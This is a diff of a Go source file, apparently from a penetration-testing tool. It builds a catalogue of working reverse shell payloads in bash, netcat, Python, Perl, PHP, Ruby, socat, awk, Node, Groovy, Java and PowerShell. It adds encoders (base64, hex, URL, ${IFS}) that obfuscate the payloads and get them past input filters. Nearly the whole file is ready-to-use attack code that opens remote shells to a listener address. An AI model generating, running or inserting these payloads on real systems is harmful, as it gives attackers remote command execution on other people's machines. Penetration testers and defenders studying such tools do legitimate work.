@@ -2,46 +2,213 @@ package internal
 
 import (
 	"encoding/base64"
+	"encoding/hex"
 	"fmt"
+	"net/url"
 	"strings"
 )
 
-// ReverseShellGenerator generates reverse shell payloads
-type ReverseShellGenerator struct {
-	IP   string
-	Port int
+// Reverse shell payloads
+//
+// Payloads are named templates filled with the listener IP and port. What a
+// payload's text is decides which encoders apply:
+//
+//	bash, sh    a POSIX shell command line
+//	powershell  a PowerShell script (run with powershell -c, or -e once base64 encoded)
+//	cmd         a Windows command line
+//	(none)      code to paste somewhere else (Groovy script console, Java sink)
+//
+// Encoders are applied in order, so "rev --encode base64,url" base64-wraps the
+// payload and URL-encodes the result.
+
+// Payload platforms
+const (
+	PlatformLinux   = "linux"
+	PlatformWindows = "windows"
+	PlatformAny     = "any"
+)
+
+// Payload is a named reverse shell template
+type Payload struct {
+	Name     string
+	Lang     string
+	Platform string
+	Shell    string // What the text is: bash, sh, powershell, cmd or "" for code
+	Note     string // Requirements worth knowing before using it
+	build    func(ip string, port int) string
 }
 
-// NewReverseShellGenerator creates a new reverse shell generator
-func NewReverseShellGenerator(ip string, port int) *ReverseShellGenerator {
-	return &ReverseShellGenerator{
-		IP:   ip,
-		Port: port,
+// psTCPClient is the classic PowerShell reverse shell (iex over a TCPClient stream)
+const psTCPClient = "$client = New-Object System.Net.Sockets.TCPClient('%s',%d);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()"
+
+// psProcess pipes a cmd.exe started through System.Diagnostics.Process to the socket
+// (plain .NET: no iex, no Add-Type, no msbuild)
+const psProcess = "$c = New-Object System.Net.Sockets.TcpClient('%s',%d);$s = $c.GetStream();$p = New-Object System.Diagnostics.Process;$p.StartInfo.FileName = 'cmd.exe';$p.StartInfo.UseShellExecute = $false;$p.StartInfo.RedirectStandardInput = $true;$p.StartInfo.RedirectStandardOutput = $true;$p.StartInfo.RedirectStandardError = $true;[void]$p.Start();[void]$p.StandardOutput.BaseStream.CopyToAsync($s);[void]$p.StandardError.BaseStream.CopyToAsync($s);$in = $p.StandardInput.BaseStream;$b = New-Object byte[] 65536;while(!$p.HasExited -and ($n = $s.Read($b, 0, $b.Length)) -gt 0){$in.Write($b, 0, $n);$in.Flush()};$c.Close();if(!$p.HasExited){$p.Kill()}"
+
+// groovyShell shuttles bytes between a shell process and a socket (Jenkins script console)
+const groovyShell = `String h="%s";int p=%d;String c=System.getProperty("os.name").toLowerCase().contains("win")?"cmd.exe":"sh";Process pr=new ProcessBuilder(c).redirectErrorStream(true).start();Socket s=new Socket(h,p);InputStream pi=pr.getInputStream(),si=s.getInputStream();OutputStream po=pr.getOutputStream(),so=s.getOutputStream();while(!s.isClosed()){while(pi.available()>0)so.write(pi.read());while(si.available()>0)po.write(si.read());so.flush();po.flush();Thread.sleep(50);try{pr.exitValue();break;}catch(Exception e){}};pr.destroy();s.close();`
+
+// payloadCatalogue lists the available payloads in display order
+var payloadCatalogue = []Payload{
+	{Name: "bash", Lang: "sh", Platform: PlatformLinux, Shell: "bash", build: func(ip string, port int) string {
+		return fmt.Sprintf("bash -c 'exec bash >& /dev/tcp/%s/%d 0>&1 &'", ip, port)
+	}},
+	{Name: "nc-mkfifo", Lang: "sh", Platform: PlatformLinux, Shell: "sh", build: func(ip string, port int) string {
+		return fmt.Sprintf("rm -f /tmp/.g;mkfifo /tmp/.g;cat /tmp/.g|sh -i 2>&1|nc %s %d >/tmp/.g", ip, port)
+	}},
+	{Name: "nc-e", Lang: "sh", Platform: PlatformLinux, Shell: "sh", Note: "needs a netcat built with -e", build: func(ip string, port int) string {
+		return fmt.Sprintf("nc -e /bin/sh %s %d", ip, port)
+	}},
+	{Name: "python", Lang: "python", Platform: PlatformLinux, Shell: "sh", build: func(ip string, port int) string {
+		return fmt.Sprintf(`python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("%s",%d));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'`, ip, port)
+	}},
+	{Name: "perl", Lang: "perl", Platform: PlatformLinux, Shell: "sh", build: func(ip string, port int) string {
+		return fmt.Sprintf(`perl -e 'use Socket;$i="%s";$p=%d;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`, ip, port)
+	}},
+	{Name: "php", Lang: "php", Platform: PlatformLinux, Shell: "sh", build: func(ip string, port int) string {
+		return fmt.Sprintf(`php -r '$s=fsockopen("%s",%d);proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$pipes);'`, ip, port)
+	}},
+	{Name: "ruby", Lang: "ruby", Platform: PlatformLinux, Shell: "sh", build: func(ip string, port int) string {
+		return fmt.Sprintf(`ruby -rsocket -e 'spawn("sh",[:in,:out,:err]=>TCPSocket.new("%s",%d))'`, ip, port)
+	}},
+	{Name: "socat", Lang: "socat", Platform: PlatformLinux, Shell: "sh", Note: "arrives with a PTY", build: func(ip string, port int) string {
+		return fmt.Sprintf("socat TCP:%s:%d EXEC:'sh -li',pty,stderr,setsid,sigint,sane", ip, port)
+	}},
+	{Name: "awk", Lang: "awk", Platform: PlatformLinux, Shell: "sh", Note: "needs gawk, every line runs in a fresh sh", build: func(ip string, port int) string {
+		return fmt.Sprintf(`awk 'BEGIN{s="/inet/tcp/0/%s/%d";while((s|&getline c)>0){while((c|&getline l)>0)print l|&s;close(c)}}' /dev/null`, ip, port)
+	}},
+	{Name: "node", Lang: "node", Platform: PlatformLinux, Shell: "sh", build: func(ip string, port int) string {
+		return fmt.Sprintf(`node -e 'sh=require("child_process").spawn("/bin/sh");require("net").connect(%d,"%s",function(){this.pipe(sh.stdin);sh.stdout.pipe(this);sh.stderr.pipe(this)})'`, port, ip)
+	}},
+	{Name: "groovy", Lang: "groovy", Platform: PlatformAny, Note: "Groovy code, e.g. for the Jenkins script console", build: func(ip string, port int) string {
+		return fmt.Sprintf(groovyShell, ip, port)
+	}},
+	{Name: "java", Lang: "java", Platform: PlatformLinux, Note: "Java expression for code injection sinks", build: func(ip string, port int) string {
+		return fmt.Sprintf(`Runtime.getRuntime().exec(new String[]{"bash","-c","exec bash >& /dev/tcp/%s/%d 0>&1"});`, ip, port)
+	}},
+	{Name: "powershell", Lang: "powershell", Platform: PlatformWindows, Shell: "powershell", build: func(ip string, port int) string {
+		return fmt.Sprintf(psTCPClient, ip, port)
+	}},
+	{Name: "cmd", Lang: "cmd", Platform: PlatformWindows, Shell: "cmd", Note: "PowerShell launched from cmd.exe", build: func(ip string, port int) string {
+		return "cmd /c powershell -nop -e " + base64.StdEncoding.EncodeToString(encodeUTF16LE(fmt.Sprintf(psTCPClient, ip, port)))
+	}},
+	{Name: "dotnet", Lang: "dotnet", Platform: PlatformWindows, Shell: "powershell", Note: "cmd.exe through System.Diagnostics.Process, no iex", build: func(ip string, port int) string {
+		return fmt.Sprintf(psProcess, ip, port)
+	}},
+}
+
+// Encoder transforms a payload text of the given shell into a new text and shell
+type Encoder struct {
+	Name        string
+	Description string
+	encode      func(text, shell string) (string, string, error)
+}
+
+// payloadEncoders lists the available encoders
+var payloadEncoders = []Encoder{
+	{Name: "base64", Description: "decode and pipe to the shell (powershell -e on Windows)", encode: encodeBase64},
+	{Name: "url", Description: "URL-encode (spaces as %20)", encode: encodeURL},
+	{Name: "hex", Description: "hex, decoded with xxd and piped to the shell", encode: encodeHex},
+	{Name: "ifs", Description: "replace spaces with ${IFS}", encode: encodeIFS},
+}
+
+// PayloadLangs returns the languages in the catalogue, in display order
+func PayloadLangs() []string {
+	var langs []string
+	seen := make(map[string]bool)
+	for _, p := range payloadCatalogue {
+		if !seen[p.Lang] {
+			seen[p.Lang] = true
+			langs = append(langs, p.Lang)
+		}
 	}
+	return langs
 }
 
-// GenerateBash generates a bash reverse shell payload
-func (r *ReverseShellGenerator) GenerateBash() string {
-	return fmt.Sprintf("bash -c 'exec bash >& /dev/tcp/%s/%d 0>&1 &'", r.IP, r.Port)
+// PayloadEncoderNames returns the names of the available encoders
+func PayloadEncoderNames() []string {
+	names := make([]string, len(payloadEncoders))
+	for i, e := range payloadEncoders {
+		names[i] = e.Name
+	}
+	return names
 }
 
-// GenerateBashBase64 generates a base64-encoded bash reverse shell payload
-func (r *ReverseShellGenerator) GenerateBashBase64() string {
-	payload := r.GenerateBash()
-	encoded := base64.StdEncoding.EncodeToString([]byte(payload))
-	return fmt.Sprintf("echo %s | base64 -d | bash", encoded)
+// findEncoder looks an encoder up by name
+func findEncoder(name string) (Encoder, bool) {
+	for _, e := range payloadEncoders {
+		if e.Name == strings.ToLower(name) {
+			return e, true
+		}
+	}
+	return Encoder{}, false
 }
 
-// GeneratePowerShell generates a PowerShell reverse shell payload (base64 encoded)
-func (r *ReverseShellGenerator) GeneratePowerShell() string {
-	// PowerShell reverse shell script
-	psScript := fmt.Sprintf(`$client = New-Object System.Net.Sockets.TCPClient("%s",%d);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + "PS " + (pwd).Path + "> ";$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()`, r.IP, r.Port)
+// isPOSIXShell reports whether a payload text is a POSIX shell command line
+func isPOSIXShell(shell string) bool {
+	return shell == "bash" || shell == "sh"
+}
+
+// commandLine turns a PowerShell script into a command line (other texts are returned as is)
+func commandLine(text, shell string) (string, string) {
+	if shell == "powershell" {
+		return fmt.Sprintf("powershell -nop -c \"%s\"", text), "cmd"
+	}
+	return text, shell
+}
+
+// encodeBase64 wraps a shell command in a base64 decoder, or a PowerShell script in -EncodedCommand
+func encodeBase64(text, shell string) (string, string, error) {
+	switch {
+	case isPOSIXShell(shell):
+		encoded := base64.StdEncoding.EncodeToString([]byte(text))
+		return fmt.Sprintf("echo %s | base64 -d | %s", encoded, shell), shell, nil
+	case shell == "powershell":
+		// PowerShell's -EncodedCommand expects UTF-16LE
+		encoded := base64.StdEncoding.EncodeToString(encodeUTF16LE(text))
+		return "powershell -nop -e " + encoded, "cmd", nil
+	}
+	return "", "", fmt.Errorf("base64 needs a shell command or PowerShell script")
+}
 
-	// Encode to UTF-16LE (PowerShell's expected encoding for -EncodedCommand)
-	utf16 := encodeUTF16LE(psScript)
-	encoded := base64.StdEncoding.EncodeToString(utf16)
+// encodeURL URL-encodes the command line
+func encodeURL(text, shell string) (string, string, error) {
+	text, shell = commandLine(text, shell)
+	return strings.ReplaceAll(url.QueryEscape(text), "+", "%20"), shell, nil
+}
 
-	return fmt.Sprintf("cmd /c powershell -e %s", encoded)
+// encodeHex wraps a shell command in a hex decoder
+func encodeHex(text, shell string) (string, string, error) {
+	if !isPOSIXShell(shell) {
+		return "", "", fmt.Errorf("hex needs a shell command")
+	}
+	return fmt.Sprintf("echo %s | xxd -r -p | %s", hex.EncodeToString([]byte(text)), shell), shell, nil
+}
+
+// encodeIFS replaces the spaces of a shell command with ${IFS}
+// Spaces inside quotes are code for another interpreter and are kept
+func encodeIFS(text, shell string) (string, string, error) {
+	if !isPOSIXShell(shell) {
+		return "", "", fmt.Errorf("ifs needs a shell command")
+	}
+
+	var sb strings.Builder
+	var quote rune
+	for _, c := range text {
+		switch {
+		case quote != 0:
+			if c == quote {
+				quote = 0
+			}
+		case c == '\'' || c == '"':
+			quote = c
+		case c == ' ':
+			sb.WriteString("${IFS}")
+			continue
+		}
+		sb.WriteRune(c)
+	}
+	return sb.String(), shell, nil
 }
 
 // encodeUTF16LE encodes a string to UTF-16 Little Endian
@@ -55,37 +222,92 @@ func encodeUTF16LE(s string) []byte {
 	return result
 }
 
-// GenerateAll returns all available payloads
-func (r *ReverseShellGenerator) GenerateAll() []string {
-	return []string{
-		r.GenerateBash(),
-		r.GenerateBashBase64(),
-		r.GeneratePowerShell(),
+// ReverseShellGenerator generates reverse shell payloads
+type ReverseShellGenerator struct {
+	IP   string
+	Port int
+}
+
+// NewReverseShellGenerator creates a new reverse shell generator
+func NewReverseShellGenerator(ip string, port int) *ReverseShellGenerator {
+	return &ReverseShellGenerator{
+		IP:   ip,
+		Port: port,
 	}
 }
 
-// GetPayloadNames returns the names of all payloads
-func (r *ReverseShellGenerator) GetPayloadNames() []string {
-	return []string{
-		"Bash",
-		"Bash (Base64)",
-		"PowerShell",
+// Payloads returns the catalogue entries matching lang (name or language) and platform
+// Empty filters match everything; PlatformAny payloads match every platform
+func (r *ReverseShellGenerator) Payloads(lang, platform string) []Payload {
+	lang = strings.ToLower(lang)
+	platform = strings.ToLower(platform)
+
+	var payloads []Payload
+	for _, p := range payloadCatalogue {
+		if lang != "" && p.Lang != lang && p.Name != lang {
+			continue
+		}
+		if platform != "" && p.Platform != platform && p.Platform != PlatformAny {
+			continue
+		}
+		payloads = append(payloads, p)
 	}
+	return payloads
 }
 
-// FormatPayloads formats all payloads with their names for display
-func (r *ReverseShellGenerator) FormatPayloads() string {
-	var sb strings.Builder
+// Generate fills a payload with the listener address and applies the encoders in order
+func (r *ReverseShellGenerator) Generate(p Payload, encoders []string) (string, error) {
+	text, shell := p.build(r.IP, r.Port), p.Shell
+	for _, name := range encoders {
+		encoder, ok := findEncoder(name)
+		if !ok {
+			return "", fmt.Errorf("unknown encoder %q (%s)", name, strings.Join(PayloadEncoderNames(), ", "))
+		}
+		var err error
+		if text, shell, err = encoder.encode(text, shell); err != nil {
+			return "", fmt.Errorf("%s: %w", p.Name, err)
+		}
+	}
+
+	text, _ = commandLine(text, shell)
+	return text, nil
+}
 
-	payloads := r.GenerateAll()
-	names := r.GetPayloadNames()
+// GenerateByName generates a catalogue payload by name
+func (r *ReverseShellGenerator) GenerateByName(name string, encoders ...string) (string, error) {
+	for _, p := range payloadCatalogue {
+		if p.Name == name {
+			return r.Generate(p, encoders)
+		}
+	}
+	return "", fmt.Errorf("unknown payload: %s", name)
+}
 
-	for i, payload := range payloads {
-		if i > 0 {
-			sb.WriteString("\n\n")
+// Script generates a catalogue payload as its interpreter reads it
+// (a PowerShell payload is the script itself, not a powershell command line)
+func (r *ReverseShellGenerator) Script(name string) (string, error) {
+	for _, p := range payloadCatalogue {
+		if p.Name == name {
+			return p.build(r.IP, r.Port), nil
 		}
-		sb.WriteString(fmt.Sprintf("%s:\n%s", names[i], payload))
 	}
+	return "", fmt.Errorf("unknown payload: %s", name)
+}
 
-	return sb.String()
+// GenerateBash generates a bash reverse shell payload
+func (r *ReverseShellGenerator) GenerateBash() string {
+	payload, _ := r.GenerateByName("bash")
+	return payload
+}
+
+// GenerateBashBase64 generates a base64-encoded bash reverse shell payload
+func (r *ReverseShellGenerator) GenerateBashBase64() string {
+	payload, _ := r.GenerateByName("bash", "base64")
+	return payload
+}
+
+// GeneratePowerShell generates a PowerShell reverse shell payload (base64 encoded, launched from cmd)
+func (r *ReverseShellGenerator) GeneratePowerShell() string {
+	payload, _ := r.GenerateByName("cmd")
+	return payload
 }